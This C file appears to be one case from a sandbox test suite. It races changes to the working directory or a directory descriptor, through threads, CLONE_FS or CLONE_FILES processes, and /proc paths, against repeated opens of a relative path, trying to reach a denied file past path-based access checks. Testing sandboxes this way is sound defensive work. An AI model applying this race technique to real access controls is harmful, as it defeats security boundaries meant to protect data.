/*
 * What a relative path starts from is exchanged while the call is judged. Two directories of the
 * program's own have an entry `x` each; one leads to a file that may be opened, the other to the denied
 * one. A peer has them take turns.
 *
 *     cwd      as the working directory, by a thread
 *     dirfd    as a descriptor, by a thread
 *     proc     the same, named in /proc
 *     fs       as the working directory, by a process that shares it (CLONE_FS)
 *     files    as a descriptor, by a process that shares them (CLONE_FILES)
 */
#include "bypass.h"

#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <sys/mman.h>
#include <sys/stat.h>

enum { RACED = 100, STACK = 1 << 16 };

static int directories[2];
static char in_proc[64];
static _Atomic int *flips, *stop;

static void flip_cwd(int which)
{
    if (fchdir(directories[which]) != 0)
        _exit(1);
}

static void flip_descriptor(int which)
{
    dup2(directories[which], RACED);
}

static enum outcome open_in_cwd(void)
{
    return outcome_of_open(open("x", O_RDONLY | O_CLOEXEC));
}

static enum outcome open_below(void)
{
    return outcome_of_open(openat(RACED, "x", O_RDONLY | O_CLOEXEC));
}

static enum outcome open_in_proc(void)
{
    return outcome_of_open(open(in_proc, O_RDONLY | O_CLOEXEC));
}

static const struct pair {
    const char *name;
    void (*flip)(int);
    enum outcome (*attempt)(void);
    int shared;                 /* what a process shares with its peer; 0 for a thread */
} pairs[] = {
    {"cwd", flip_cwd, open_in_cwd, 0},
    {"dirfd", flip_descriptor, open_below, 0},
    {"proc", flip_descriptor, open_in_proc, 0},
    {"fs", flip_cwd, open_in_cwd, CLONE_FS},
    {"files", flip_descriptor, open_below, CLONE_FILES},
};
static const struct pair *pair;

static void *flip(void *unused)
{
    uint64_t random = 0x9e3779b97f4a7c15;

    while (!*stop) {
        random ^= random << 13;
        random ^= random >> 7;
        random ^= random << 17;
        pair->flip((int)(random >> 63));
        ++*flips;
    }
    return unused;
}

static int flip_in_process(void *parent)
{
    attack_die_with(*(pid_t *)parent);
    alarm(ATTACK_SECONDS);
    flip(NULL);
    return 0;
}

static int directory_with(const char *name, const char *target)
{
    char *path = attack_path(name), *entry;
    int fd;

    if (mkdir(path, 0755) != 0 || asprintf(&entry, "%s/x", path) < 0 ||
        symlinkat(target, AT_FDCWD, entry) != 0)
        attack_fail(path);
    fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0)
        attack_fail(path);
    return fd;
}

int main(int argc, char **argv)
{
    pthread_t thread;
    pid_t self = getpid(), peer = -1;
    char *stack = malloc(STACK);

    attack_begin(argc, argv);
    for (size_t i = 0; i < sizeof pairs / sizeof *pairs; i++)
        if (attack.words == 1 && strcmp(pairs[i].name, attack.word[0]) == 0)
            pair = &pairs[i];
    flips = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (pair == NULL || flips == MAP_FAILED || stack == NULL)
        return 2;
    stop = flips + 1;
    directories[0] = directory_with("scratch/a", attack_path("files/secret-A"));
    directories[1] = directory_with("scratch/b", attack_path("files/secret-D"));
    snprintf(in_proc, sizeof in_proc, "/proc/%d/fd/%d/x", getpid(), RACED);
    pair->flip(0);
    if (pair->shared)
        peer = clone(flip_in_process, stack + STACK, pair->shared | SIGCHLD, &self);
    else if (pthread_create(&thread, NULL, flip, NULL) != 0)
        attack_fail("pthread_create");
    if (pair->shared && peer < 0)
        attack_fail("clone");
    while (*flips == 0)
        sched_yield();
    for (long i = 0; i < attack.attempts; i++)
        count(pair->attempt());
    *stop = 1;
    if (pair->shared)
        end_child(peer);
    else
        pthread_join(thread, NULL);
    return attack_report();
}
